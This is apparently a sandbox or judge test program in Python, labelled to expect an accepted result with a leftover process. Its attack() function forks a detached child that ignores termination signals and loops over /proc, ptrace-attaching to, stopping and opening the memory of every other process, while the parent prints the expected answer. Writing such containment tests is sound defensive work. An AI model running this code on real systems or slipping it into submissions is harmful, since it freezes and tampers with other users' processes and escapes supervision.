# expect: AC; leftover
import ctypes
import os
import signal

PTRACE_ATTACH = 16


def lie_in_wait():
    """Attaches to, stops and writes into whatever process comes next."""
    libc = ctypes.CDLL(None)
    for name in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(name, signal.SIG_IGN)
    os.write(tell, b"x")
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) in (mine, os.getpid()):
                continue
            libc.ptrace(PTRACE_ATTACH, int(pid), 0, 0)
            libc.kill(int(pid), signal.SIGSTOP)
            try:
                open(f"/proc/{pid}/mem", "r+b")
            except OSError:
                pass


def attack():
    global tell, mine
    mine = os.getpid()
    ready, tell = os.pipe()
    if os.fork() == 0:
        os.setsid()
        lie_in_wait()
    os.read(ready, 1)
    print("right")
